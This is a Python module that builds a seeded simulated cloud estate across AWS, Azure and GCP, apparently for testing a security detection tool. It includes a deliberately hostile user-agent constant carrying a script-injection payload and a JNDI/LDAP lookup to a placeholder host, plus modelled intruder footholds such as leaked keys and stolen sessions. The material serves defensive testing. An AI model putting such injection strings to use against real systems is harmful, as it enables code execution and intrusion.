"""The simulated organisation: AWS accounts, Azure subscriptions, GCP projects, the identities
that act in them (of every type), and the machines and disks they act on.

The estate is drawn from the simulation seed, so two seeds give two different fleets, and
every scenario and the background noise refer to the same machines. Public IPs come from the
documentation ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) and private ones from
10.0.0.0/8; nothing here points at a real address.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from revertguard.simulate.ids import Ids

# -- user agents ---------------------------------------------------------------------------
# `{service}` and `{command}` are filled from the API call (aws-cli names its command).
AWS_CLI_LAPTOP = ("aws-cli/2.15.30 Python/3.11.8 Darwin/23.4.0 exe/x86_64 prompt/off "
                  "command/{service}.{command}")
AWS_CLI_CLOUDSHELL = ("aws-cli/2.13.5 Python/3.11.4 Linux/4.14.255-314-253.539.amzn2.x86_64 exec-env/CloudShell "
                      "exe/x86_64.amzn.2 prompt/off command/{service}.{command}")
AWS_CLI_ATTACKER = ("aws-cli/2.9.19 Python/3.9.11 Linux/6.5.0-kali3-amd64 exe/x86_64.kali.2023 prompt/off "
                    "command/{service}.{command}")
BOTO3_LAMBDA = ("Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#5.10.209-198.858.amzn2.x86_64 md/arch#x86_64 "
                "lang/python#3.12.2 md/pyimpl#CPython exec-env/AWS_Lambda_python3.12 cfg/retry-mode#legacy "
                "Botocore/1.34.69")
BOTO3_ATTACKER = ("Boto3/1.28.57 md/Botocore#1.31.57 ua/2.0 os/linux#6.5.0-kali3-amd64 md/arch#x86_64 "
                  "lang/python#3.11.6 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.31.57")
TERRAFORM_AWS = ("APN/1.0 HashiCorp/1.0 Terraform/1.7.5 (+https://www.terraform.io) terraform-provider-aws/5.42.0 "
                 "(+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.25.3 os/linux "
                 "lang/go#1.21.8 md/GOOS#linux md/GOARCH#amd64 api/{service}#1.151.0")
AWS_CONSOLE = "console.{service}.amazonaws.com"
SSM_AGENT = "aws-sdk-go/1.44.260 (go1.20.10; linux; amd64) amazon-ssm-agent/3.2.1630.0"

GCLOUD = ("google-cloud-sdk gcloud/470.0.0 command/gcloud.{command} invocation-id/{invocation} environment/None "
          "environment-version/None client-os/MACOSX client-os-ver/23.4.0 client-pltf-arch/arm interactive/True "
          "from-script/False python/3.11.8 term/xterm-256color (Macintosh; Intel Mac OS X 23.4.0),gzip(gfe)")
GCLOUD_ATTACKER = ("google-cloud-sdk gcloud/438.0.0 command/gcloud.{command} invocation-id/{invocation} "
                   "environment/None environment-version/None client-os/LINUX client-os-ver/6.5.0 "
                   "client-pltf-arch/x86_64 interactive/False from-script/True python/3.11.6 term/ "
                   "(Linux 6.5.0-kali3-amd64),gzip(gfe)")
TERRAFORM_GCP = ("google-api-go-client/0.5 Terraform/1.7.5 (+https://www.terraform.io) Terraform-Plugin-SDK/2.33.0 "
                 "terraform-provider-google/5.21.0,gzip(gfe)")
GCP_CONSOLE = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
               "Chrome/123.0.0.0 Safari/537.36,gzip(gfe)")

# A deliberately hostile user agent: output layers (HTML reports, terminals) must escape it.
# It appears only in background noise and is listed in the labels under `tricky_values`.
TRICKY_USER_AGENT = "Mozilla/5.0 <script>alert('revertguard')</script> [bold red]x[/] ${jndi:ldap://192.0.2.1/a}"

# Azure first-party client application ids, as they appear in the `appid` claim.
AZURE_PORTAL_APP = "c44b4083-3bb0-49c1-b47d-974e53cbdf3c"
AZURE_CLI_APP = "04b07795-8ddb-461a-bbee-02f9e1bf7b46"
AZURE_POWERSHELL_APP = "1950a258-227b-4e31-a9cf-717495945fc2"

# Built-in Azure role definition ids (the `evidence.roleDefinitionId` of an authorization).
AZURE_ROLES = {
    "Owner": "8e3af657a8ff443ca75c2fe8c4bcb635",
    "Contributor": "b24988ac618042a0ab8820f7382dd24c",
    "Virtual Machine Contributor": "9980e02cc2be4d7394e8173b1dc7cf3c",
    "Backup Contributor": "5e467623bb1f42f4a55d6e525e11384b",
}


# -- AWS -----------------------------------------------------------------------------------
@dataclass(frozen=True)
class AwsIdentity:
    """Someone or something that calls AWS APIs, with where it calls from and with what."""

    key: str
    type: str  # IAMUser | AssumedRole | AWSService
    account: str
    name: str  # user name, role name, or service host
    principal_id: str = ""
    access_key: str = ""
    session: str = ""
    role_path: str = "/"
    invoked_by: str = ""
    mfa: bool = False
    console: bool = False
    web_identity: bool = False
    instance_credentials: bool = False
    ip: str = ""
    user_agent: str = ""
    human: bool = False

    @property
    def arn(self) -> str:
        if self.type == "IAMUser":
            return f"arn:aws:iam::{self.account}:user/{self.name}"
        if self.type == "AssumedRole":
            return f"arn:aws:sts::{self.account}:assumed-role/{self.name}/{self.session}"
        return ""

    @property
    def role_arn(self) -> str:
        return f"arn:aws:iam::{self.account}:role{self.role_path}{self.name}"


@dataclass
class AwsVolume:
    volume_id: str
    device: str
    size: int
    volume_type: str = "gp3"


@dataclass
class AwsInstance:
    """An EC2 instance of the estate with its root and data volumes."""

    instance_id: str
    name: str
    account: str
    region: str
    zone: str
    instance_type: str
    image_id: str
    root: AwsVolume
    data: list[AwsVolume] = field(default_factory=list)
    private_ip: str = ""
    snapshots: list[str] = field(default_factory=list)  # earlier snapshots of its root volume

    @property
    def has_instance_store(self) -> bool:
        """Whether a stop/start wipes local data: instance families with a `d` or `i3` store."""
        family = self.instance_type.split(".")[0]
        return family.endswith("d") or family.startswith(("i3", "i4"))

    @property
    def root_device(self) -> str:
        return self.root.device


@dataclass
class AwsAccount:
    account_id: str
    alias: str
    regions: list[str]
    instances: list[AwsInstance] = field(default_factory=list)
    buckets: list[str] = field(default_factory=list)


# -- Azure ---------------------------------------------------------------------------------
@dataclass(frozen=True)
class AzureIdentity:
    """A caller of Azure Resource Manager: a user, a service principal or a managed identity."""

    key: str
    type: str  # User | ServicePrincipal | ManagedIdentity
    object_id: str
    app_id: str
    display_name: str
    upn: str = ""
    ip: str = ""
    role: str = "Contributor"
    managed_identity_resource: str = ""  # the `xms_mirid` claim of a managed identity
    human: bool = False

    @property
    def caller(self) -> str:
        """The Activity Log `caller`: the UPN for users, the object id for applications."""
        return self.upn or self.object_id


@dataclass
class AzureVm:
    name: str
    subscription: str
    resource_group: str
    location: str
    size: str
    os_disk: str  # managed disk name
    ephemeral_os_disk: bool = False
    vm_id: str = ""
    snapshots: list[str] = field(default_factory=list)  # snapshot names of its OS disk

    @property
    def has_temp_disk(self) -> bool:
        """Whether the size has a local temporary disk: a `d` feature letter (D4ds_v5), B-series,
        or sizes older than v4 (Microsoft's size tables)."""
        name = self.size.lower().removeprefix("standard_")
        family, _, version = name.partition("_v")
        letters = family.lstrip("abcdefghijklmnopqrstuvwxyz")
        features = letters.lstrip("0123456789")
        return "d" in features or family.startswith("b") or (version or "1") in ("1", "2", "3")

    def resource_id(self) -> str:
        return (f"/subscriptions/{self.subscription}/resourceGroups/{self.resource_group}"
                f"/providers/Microsoft.Compute/virtualMachines/{self.name}")

    def disk_id(self, disk: str | None = None) -> str:
        return (f"/subscriptions/{self.subscription}/resourceGroups/{self.resource_group}"
                f"/providers/Microsoft.Compute/disks/{disk or self.os_disk}")

    def snapshot_id(self, snapshot: str) -> str:
        return (f"/subscriptions/{self.subscription}/resourceGroups/{self.resource_group}"
                f"/providers/Microsoft.Compute/snapshots/{snapshot}")


@dataclass
class AzureSubscription:
    subscription_id: str
    name: str
    management_group: str
    resource_groups: list[str]
    vms: list[AzureVm] = field(default_factory=list)
    vault: str = ""  # Recovery Services vault name
    vault_group: str = ""


# -- GCP -----------------------------------------------------------------------------------
@dataclass(frozen=True)
class GcpIdentity:
    """A principal in GCP audit logs: a user, a service account, or a Google service agent."""

    key: str
    type: str  # user | serviceAccount | serviceAgent
    email: str
    ip: str = ""
    user_agent: str = ""
    human: bool = False

    @property
    def principal_subject(self) -> str:
        return ("user:" if self.type == "user" else "serviceAccount:") + self.email


@dataclass
class GcpInstance:
    name: str
    project: str
    zone: str
    machine_type: str
    instance_id: str
    boot_disk: str
    local_ssd: bool = False
    snapshots: list[str] = field(default_factory=list)


@dataclass
class GcpProject:
    project_id: str
    number: str
    instances: list[GcpInstance] = field(default_factory=list)
    buckets: list[str] = field(default_factory=list)


@dataclass
class Estate:
    """The whole simulated organisation."""

    aws_accounts: list[AwsAccount]
    aws_identities: dict[str, AwsIdentity]
    azure_tenant: str
    azure_subscriptions: list[AzureSubscription]
    azure_identities: dict[str, AzureIdentity]
    gcp_projects: list[GcpProject]
    gcp_identities: dict[str, GcpIdentity]
    external_account: str  # an AWS account outside the organisation (exfiltration target)

    def aws_account(self, alias: str) -> AwsAccount:
        return next(a for a in self.aws_accounts if a.alias == alias)

    def aws_instances(self, predicate=None) -> list[AwsInstance]:
        return [i for a in self.aws_accounts for i in a.instances if predicate is None or predicate(i)]

    def azure_vms(self, predicate=None) -> list[AzureVm]:
        return [v for s in self.azure_subscriptions for v in s.vms if predicate is None or predicate(v)]

    def azure_subscription(self, subscription_id: str) -> AzureSubscription:
        return next(s for s in self.azure_subscriptions if s.subscription_id == subscription_id)

    def gcp_instances(self, predicate=None) -> list[GcpInstance]:
        return [i for p in self.gcp_projects for i in p.instances if predicate is None or predicate(i)]

    def gcp_project(self, project_id: str) -> GcpProject:
        return next(p for p in self.gcp_projects if p.project_id == project_id)


# -- building the estate -------------------------------------------------------------------
_AWS_ACCOUNTS = (("prod", ["us-east-1", "eu-west-1"]), ("staging", ["us-east-1"]), ("shared", ["us-west-2"]))
_AWS_TYPES = ("m5.large", "t3.medium", "c5d.2xlarge", "m5d.xlarge", "r6i.large", "i3.large", "t3.large")
_AWS_NAMES = ("web", "api", "worker", "batch", "db-proxy", "bastion", "etl", "cache")
_AZURE_SIZES = ("Standard_D2s_v5", "Standard_D4s_v5", "Standard_B2ms", "Standard_E4s_v5")
_AZURE_LOCATIONS = ("westeurope", "eastus2")
_GCP_TYPES = ("e2-standard-4", "n2-standard-2", "n2-standard-8", "c3-standard-4")


def build_estate(seed: int) -> Estate:
    """The organisation for one simulation seed."""
    rng = random.Random(f"revertguard-estate/{seed}")
    ids = Ids(rng)
    accounts = [AwsAccount(ids.digits(12), alias, regions) for alias, regions in _AWS_ACCOUNTS]
    for account in accounts:
        for region in account.regions:
            for n in range(6 if account.alias == "prod" else 4):
                account.instances.append(_aws_instance(ids, rng, account, region, n))
        account.buckets = [f"{account.alias}-data-{ids.lower_alnum(6)}", f"{account.alias}-app-artifacts",
                           f"{account.alias}-customer-exports-{ids.lower_alnum(4)}"]
    tenant = ids.guid()
    subscriptions = [_azure_subscription(ids, rng, name) for name in ("prod", "dev")]
    projects = [_gcp_project(ids, rng, name) for name in ("acme-prod", "acme-staging")]
    return Estate(
        aws_accounts=accounts,
        aws_identities=_aws_identities(ids, accounts),
        azure_tenant=tenant,
        azure_subscriptions=subscriptions,
        azure_identities=_azure_identities(ids, subscriptions),
        gcp_projects=projects,
        gcp_identities=_gcp_identities(projects),
        external_account=ids.digits(12),
    )


def _aws_instance(ids: Ids, rng: random.Random, account: AwsAccount, region: str, n: int) -> AwsInstance:
    instance_type = _AWS_TYPES[(n + len(account.alias)) % len(_AWS_TYPES)]
    # Nitro AMIs of Amazon Linux use /dev/xvda; Ubuntu and Windows AMIs use /dev/sda1.
    root_device = "/dev/xvda" if n % 3 else "/dev/sda1"
    data = [AwsVolume(ids.ec2("vol"), "/dev/sdf", rng.choice((50, 100, 200)))] if n % 2 == 0 else []
    return AwsInstance(
        instance_id=ids.ec2("i"),
        name=f"{account.alias}-{_AWS_NAMES[n % len(_AWS_NAMES)]}-{n + 1:02d}",
        account=account.account_id,
        region=region,
        zone=region + "abc"[n % 3],
        instance_type=instance_type,
        image_id=ids.ec2("ami"),
        root=AwsVolume(ids.ec2("vol"), root_device, rng.choice((8, 20, 30))),
        data=data,
        private_ip=f"10.{rng.randrange(0, 64)}.{rng.randrange(0, 255)}.{rng.randrange(4, 250)}",
        snapshots=[ids.ec2("snap") for _ in range(3)],
    )


def _azure_subscription(ids: Ids, rng: random.Random, name: str) -> AzureSubscription:
    sub = AzureSubscription(ids.guid(), f"contoso-{name}", "contoso-mg", [f"{name}-app-rg", f"{name}-data-rg"])
    for n in range(5 if name == "prod" else 3):
        group = sub.resource_groups[n % 2]
        vm_name = f"{name}-vm-{['web', 'app', 'sql', 'jump', 'build'][n % 5]}-{n + 1:02d}"
        vm = AzureVm(
            name=vm_name,
            subscription=sub.subscription_id,
            resource_group=group,
            location=_AZURE_LOCATIONS[n % 2],
            size=_AZURE_SIZES[n % len(_AZURE_SIZES)],
            os_disk=f"{vm_name}_OsDisk_1_{ids.hex(32)}",
            ephemeral_os_disk=(n == 1),
            vm_id=ids.guid(),
            snapshots=[f"{vm_name}-osdisk-snap-{k}" for k in ("20261101", "20261108", "20261115")],
        )
        if vm.ephemeral_os_disk:
            vm.size = "Standard_D4ds_v5"  # an ephemeral OS disk needs a VM size with a local disk
        sub.vms.append(vm)
    sub.vault = f"{name}-rsv-{ids.lower_alnum(5)}"
    sub.vault_group = f"{name}-backup-rg"
    del rng
    return sub


def _gcp_project(ids: Ids, rng: random.Random, name: str) -> GcpProject:
    project = GcpProject(f"{name}-{ids.digits(4)}", ids.digits(12))
    for n in range(4):
        instance_name = f"{name.split('-')[1]}-{['frontend', 'backend', 'analytics', 'runner'][n]}-{n + 1}"
        project.instances.append(GcpInstance(
            name=instance_name,
            project=project.project_id,
            zone=("us-central1-a", "us-central1-b", "europe-west1-b")[n % 3],
            machine_type=_GCP_TYPES[n % len(_GCP_TYPES)],
            instance_id=ids.gcp_numeric_id(),
            boot_disk=instance_name,  # a boot disk created with the instance takes its name
            local_ssd=(n == 2),
            snapshots=[f"{instance_name}-snap-{d}" for d in ("20261103", "20261110", "20261117")],
        ))
    project.buckets = [f"{project.project_id}-exports", f"{project.project_id}-ml-datasets"]
    del rng
    return project


def _aws_identities(ids: Ids, accounts: list[AwsAccount]) -> dict[str, AwsIdentity]:
    prod, staging, shared = (a.account_id for a in accounts)
    people = []
    for key, account, person, role in (
        ("ops-sso", prod, "maria.garcia@example.com", "AWSReservedSSO_AdministratorAccess_3e7f1a2b9c4d5e6f"),
        ("dev-sso", staging, "li.wei@example.com", "AWSReservedSSO_PowerUserAccess_8a9b0c1d2e3f4a5b"),
        ("dr-operator", prod, "sam.okafor@example.com", "DR-Operator"),
        ("backup-admin", shared, "priya.nair@example.com", "AWSReservedSSO_BackupAdmin_1f2e3d4c5b6a7980"),
    ):
        path = "/aws-reserved/sso.amazonaws.com/" if role.startswith("AWSReservedSSO") else "/"
        people.append(AwsIdentity(
            key, "AssumedRole", account, role, ids.principal_id("AROA"), ids.access_key(True), session=person,
            role_path=path, mfa=False, ip=f"198.51.100.{ids.rng.randrange(10, 60)}", user_agent=AWS_CLI_LAPTOP,
            human=True))
    identities = {i.key: i for i in people}
    more = [
        AwsIdentity("console-admin", "IAMUser", prod, "jwilson", ids.principal_id("AIDA"), ids.access_key(True),
                    mfa=True, console=True, ip="198.51.100.77", user_agent=AWS_CONSOLE, human=True),
        AwsIdentity("legacy-deploy", "IAMUser", prod, "svc-legacy-deploy", ids.principal_id("AIDA"),
                    ids.access_key(False), ip="192.0.2.45", user_agent=AWS_CLI_CLOUDSHELL),
        AwsIdentity("cicd", "AssumedRole", staging, "github-actions-deploy", ids.principal_id("AROA"),
                    ids.access_key(True), session="GitHubActions", web_identity=True, ip="192.0.2.150",
                    user_agent=TERRAFORM_AWS),
        AwsIdentity("scheduler", "AssumedRole", prod, "instance-scheduler-lambda-role", ids.principal_id("AROA"),
                    ids.access_key(True), session="instance-scheduler-StartStop", ip="10.20.4.17",
                    user_agent=BOTO3_LAMBDA),
        AwsIdentity("app-role", "AssumedRole", prod, "app-server-role", ids.principal_id("AROA"),
                    ids.access_key(True), session=accounts[0].instances[0].instance_id, instance_credentials=True,
                    ip=accounts[0].instances[0].private_ip, user_agent=BOTO3_LAMBDA.replace(
                        " exec-env/AWS_Lambda_python3.12", "")),
        AwsIdentity("autoscaling", "AssumedRole", prod, "AWSServiceRoleForAutoScaling", ids.principal_id("AROA"),
                    ids.access_key(True), session="AutoScaling",
                    role_path="/aws-service-role/autoscaling.amazonaws.com/", invoked_by="autoscaling.amazonaws.com",
                    ip="autoscaling.amazonaws.com", user_agent="autoscaling.amazonaws.com"),
        AwsIdentity("dlm", "AssumedRole", prod, "AWSDataLifecycleManagerDefaultRole", ids.principal_id("AROA"),
                    ids.access_key(True), session="DLMSession", role_path="/service-role/",
                    invoked_by="dlm.amazonaws.com", ip="dlm.amazonaws.com", user_agent="dlm.amazonaws.com"),
        AwsIdentity("backup-role", "AssumedRole", shared, "AWSBackupDefaultServiceRole", ids.principal_id("AROA"),
                    ids.access_key(True), session="AWSBackup-AWSBackupDefaultServiceRole",
                    role_path="/service-role/", invoked_by="backup.amazonaws.com", ip="backup.amazonaws.com",
                    user_agent="backup.amazonaws.com"),
        AwsIdentity("backup-role-prod", "AssumedRole", prod, "AWSBackupDefaultServiceRole", ids.principal_id("AROA"),
                    ids.access_key(True), session="AWSBackup-AWSBackupDefaultServiceRole",
                    role_path="/service-role/", invoked_by="backup.amazonaws.com", ip="backup.amazonaws.com",
                    user_agent="backup.amazonaws.com"),
        AwsIdentity("fis-role", "AssumedRole", prod, "FISExperimentRole", ids.principal_id("AROA"),
                    ids.access_key(True), session="EXP" + ids.upper_alnum(14),
                    role_path="/service-role/", invoked_by="fis.amazonaws.com", ip="fis.amazonaws.com",
                    user_agent="fis.amazonaws.com"),
        AwsIdentity("ec2-service", "AWSService", prod, "ec2.amazonaws.com", invoked_by="ec2.amazonaws.com",
                    ip="ec2.amazonaws.com", user_agent="ec2.amazonaws.com"),
        AwsIdentity("config-role", "AssumedRole", prod, "AWSServiceRoleForConfig", ids.principal_id("AROA"),
                    ids.access_key(True), session="AWSConfig-Describe",
                    role_path="/aws-service-role/config.amazonaws.com/", invoked_by="config.amazonaws.com",
                    ip="config.amazonaws.com", user_agent="config.amazonaws.com"),
        # The intruder's second foothold: a stolen SSO session of a real administrator.
        AwsIdentity("attacker-session", "AssumedRole", prod, "AWSReservedSSO_AdministratorAccess_3e7f1a2b9c4d5e6f",
                    people[0].principal_id, ids.access_key(True), session="maria.garcia@example.com",
                    role_path="/aws-reserved/sso.amazonaws.com/", ip="203.0.113.211", user_agent=BOTO3_ATTACKER),
    ]
    identities.update({i.key: i for i in more})
    # The intruder's first foothold: the leaked key of the real svc-legacy-deploy user, so the
    # principal and key are the legitimate ones and only the address and tooling differ.
    legacy = identities["legacy-deploy"]
    identities["attacker-key"] = AwsIdentity(
        "attacker-key", "IAMUser", legacy.account, legacy.name, legacy.principal_id, legacy.access_key,
        ip="203.0.113.66", user_agent=AWS_CLI_ATTACKER)
    return identities


def _azure_identities(ids: Ids, subscriptions: list[AzureSubscription]) -> dict[str, AzureIdentity]:
    prod = subscriptions[0]
    automation_mi = (f"/subscriptions/{prod.subscription_id}/resourceGroups/ops-automation-rg/providers/"
                     "Microsoft.Automation/automationAccounts/ops-startstop")
    chaos_mi = (f"/subscriptions/{prod.subscription_id}/resourceGroups/chaos-rg/providers/"
                "Microsoft.Chaos/experiments/vm-shutdown-weekly")
    items = [
        AzureIdentity("ops-user", "User", ids.guid(), AZURE_PORTAL_APP, "Maria Garcia", upn="maria.garcia@contoso.com",
                      ip="198.51.100.23", role="Owner", human=True),
        AzureIdentity("dev-user", "User", ids.guid(), AZURE_CLI_APP, "Li Wei", upn="li.wei@contoso.com",
                      ip="198.51.100.41", role="Contributor", human=True),
        AzureIdentity("dr-user", "User", ids.guid(), AZURE_CLI_APP, "Sam Okafor", upn="sam.okafor@contoso.com",
                      ip="198.51.100.52", role="Virtual Machine Contributor", human=True),
        AzureIdentity("backup-user", "User", ids.guid(), AZURE_PORTAL_APP, "Priya Nair",
                      upn="priya.nair@contoso.com", ip="198.51.100.64", role="Backup Contributor", human=True),
        AzureIdentity("pipeline-sp", "ServicePrincipal", ids.guid(), ids.guid(), "ado-release-pipeline",
                      ip="192.0.2.160", role="Contributor"),
        AzureIdentity("automation-mi", "ManagedIdentity", ids.guid(), ids.guid(), "ops-startstop",
                      ip="10.40.1.8", role="Virtual Machine Contributor", managed_identity_resource=automation_mi),
        AzureIdentity("chaos-mi", "ManagedIdentity", ids.guid(), ids.guid(), "vm-shutdown-weekly",
                      ip="10.40.1.9", role="Virtual Machine Contributor", managed_identity_resource=chaos_mi),
        # Azure Backup acts as this first-party application when it restores into a subscription.
        AzureIdentity("backup-service", "ServicePrincipal", ids.guid(), "262044b1-e2ce-469f-a196-69ab7ada62d3",
                      "Backup Management Service", ip="", role="Backup Contributor"),
        # The intruder: a phished user session from an unfamiliar address.
        AzureIdentity("attacker-user", "User", ids.guid(), AZURE_CLI_APP, "Tom Becker", upn="tom.becker@contoso.com",
                      ip="203.0.113.87", role="Contributor", human=True),
    ]
    return {i.key: i for i in items}


def _gcp_identities(projects: list[GcpProject]) -> dict[str, GcpIdentity]:
    prod, staging = projects
    items = [
        GcpIdentity("ops-user", "user", "maria.garcia@example.com", "198.51.100.23", GCLOUD, human=True),
        GcpIdentity("dev-user", "user", "li.wei@example.com", "198.51.100.41", GCP_CONSOLE, human=True),
        GcpIdentity("terraform-sa", "serviceAccount", f"terraform@{prod.project_id}.iam.gserviceaccount.com",
                    "192.0.2.170", TERRAFORM_GCP),
        GcpIdentity("compute-agent", "serviceAgent",
                    f"service-{prod.number}@compute-system.iam.gserviceaccount.com"),
        GcpIdentity("mig-agent", "serviceAgent", f"{prod.number}@cloudservices.gserviceaccount.com"),
        GcpIdentity("staging-ci-sa", "serviceAccount", f"ci-runner@{staging.project_id}.iam.gserviceaccount.com",
                    "192.0.2.171", TERRAFORM_GCP),
        GcpIdentity("attacker-sa", "serviceAccount", f"etl-loader@{prod.project_id}.iam.gserviceaccount.com",
                    "203.0.113.140", GCLOUD_ATTACKER),
    ]
    return {i.key: i for i in items}
